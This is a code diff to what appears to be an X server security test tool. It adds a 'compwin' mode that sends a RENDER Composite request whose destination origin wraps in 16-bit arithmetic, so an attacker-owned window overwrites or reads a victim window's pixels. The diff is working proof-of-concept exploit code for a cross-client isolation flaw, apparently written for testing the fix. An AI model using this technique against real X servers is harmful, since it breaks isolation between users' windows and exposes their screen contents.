@@ -22,6 +22,9 @@
  *   atk-geom tri | trap                Triangles / Trapezoids from a picture of an own
  *                                      window beside the victim, the source origin reaching
  *                                      left of the window onto the victim
+ *   atk-geom compwin                   RENDER Composite (root, repeat pad) into an own
+ *                                      window at y 300 with a destination origin y 32766:
+ *                                      in fb the window's origin added to it wraps
  *   atk-geom fuzz N SEED               N random extreme-geometry requests; alive=1 when the
  *                                      server still answers
  * Prints "red=N err=E" (red pixels read back by the attacker; E: the first X error code),
@@ -377,6 +380,27 @@ shapes(int trap)
     return 0;
 }
 
+/* ---- Composite whose destination origin wraps with the window's origin ---- */
+/* The generator's seed 1796399438, case 30371. fb adds the window's y (300) to the
+ * destination origin 32766 in INT16: -32470, so the 41944 lines drawn cover the whole
+ * window, from the source's line -32670 + 32770 = 100 on (the victim's top). */
+static int
+comp_win(void)
+{
+    xcb_render_pictformat_t f = root_format();
+    xcb_window_t w = mkwin(root, 450, 300, 300, 300, GREEN, 0);
+    xcb_render_picture_t src = picture(root, f, 1), dst;
+    uint32_t pad = XCB_RENDER_REPEAT_PAD;
+
+    xcb_map_window(c, w);
+    wait_mapped(w);
+    dst = picture(w, f, 0);
+    xcb_render_change_picture(c, src, XCB_RENDER_CP_REPEAT, &pad);
+    note(comp(XCB_RENDER_PICT_OP_SRC, src, 0, dst, VX, -32670, 0, 0, 0, 32766, 300, 41944));
+    printf("red=%ld err=%d\n", red_of(w, 300, 300), first_err);
+    return 0;
+}
+
 /* ---- random requests at the protocol's limits ---- */
 static int
 pick16(unsigned *seed)
@@ -572,6 +596,8 @@ main(int argc, char **argv)
         return own(!strcmp(m, "owncomp"));
     } else if (!strcmp(m, "planeown")) {
         return plane_own();
+    } else if (!strcmp(m, "compwin")) {
+        return comp_win();
     } else if (!strcmp(m, "tri") || !strcmp(m, "trap")) {
         return shapes(!strcmp(m, "trap"));
     } else if (!strcmp(m, "fuzz")) {
